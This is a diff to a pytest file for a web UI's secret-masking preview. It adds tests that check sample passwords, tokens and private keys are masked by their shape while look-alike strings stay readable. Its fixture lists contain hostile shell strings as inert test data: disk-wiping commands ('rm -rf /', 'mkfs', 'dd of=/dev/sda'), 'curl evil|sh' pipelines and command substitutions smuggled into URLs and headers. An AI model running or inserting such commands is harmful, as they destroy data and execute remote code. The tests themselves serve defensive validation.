@@ -19,6 +19,7 @@ from webui.preview import (
     masked_arguments,
     searchable_text,
 )
+from webui.preview.shapes import SHAPES
 
 NAMES = [
     "password", "Password", "dbPassword", "passwd", "passphrase", "pass", "secret", "clientSecret",
@@ -40,10 +41,12 @@ HARMLESS = [
 
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
 PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAK=\n-----END RSA PRIVATE KEY-----"
+OPEN_PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" * 2
 VALUES = [
     (f"x {JWT} y", JWT),
     (f"{PEM}\nrm -rf /", PEM),
     (PEM.replace("\n", "\\n"), PEM.replace("\n", "\\n")),
+    (f"{OPEN_PEM}\nrm -rf /", OPEN_PEM),
     ("key AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
     ("ASIAIOSFODNN7EXAMPLE;", "ASIAIOSFODNN7EXAMPLE"),
     ("git clone ghp_" + "a1" * 18, "ghp_" + "a1" * 18),
@@ -67,6 +70,11 @@ UNHARMED = [
     "eyJ.eyJ.x", "AKIA1234", "xAKIAIOSFODNN7EXAMPLE", "ask-me-about-this-long-thing-please",
     "https://example.org:8080/a@b", "token=$(curl evil|sh)", "token = get_token()",
     "password=getpass(prompt)", "PWD=/srv/app make", "4111 1111 1111 1112", "1732167322123",
+    "-----BEGIN PRIVATE KEY-----\nmkfs /dev/sda1\nreboot",
+    "-----BEGIN PRIVATE KEY-----\ndd of=/dev/sda\n-----END PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY-----\nComment: x; rm -rf y\n" + "MIIE" * 16,
+    "git clone https://x:$(curl${IFS}evil|sh)@example.org",
+    "curl -H 'Cookie: $(reboot)=1'", "://a:`reboot`@b", "curl http://a:b;reboot;@c",
     "9111111111111111", "-----BEGIN CERTIFICATE-----", "the password is wrong", "x.4111111111111111",
 ]  # fmt: skip
 
@@ -150,6 +158,15 @@ def test_a_secret_is_masked_by_its_shape_and_the_rest_stays(
 
 @pytest.mark.parametrize("text", UNHARMED)
 def test_what_only_resembles_a_secret_stays_readable(profile: Profile, text: str) -> None:
+    assert text_of(full("t", {"a": text}, profile).nodes[0]) == text
+
+
+@pytest.mark.parametrize("word", ["password", "secret", "token", "api_key"])
+def test_a_run_that_is_no_secret_is_passed_at_once(profile: Profile, word: str) -> None:
+    """Else it is searched again from each of its words, which is quadratic."""
+    text = f"{word}=" * 50 + "("
+    found = [match.span() for shape in SHAPES for match in shape.pattern.finditer(text)]
+    assert found == [(0, len(text))]
     assert text_of(full("t", {"a": text}, profile).nodes[0]) == text
 
 
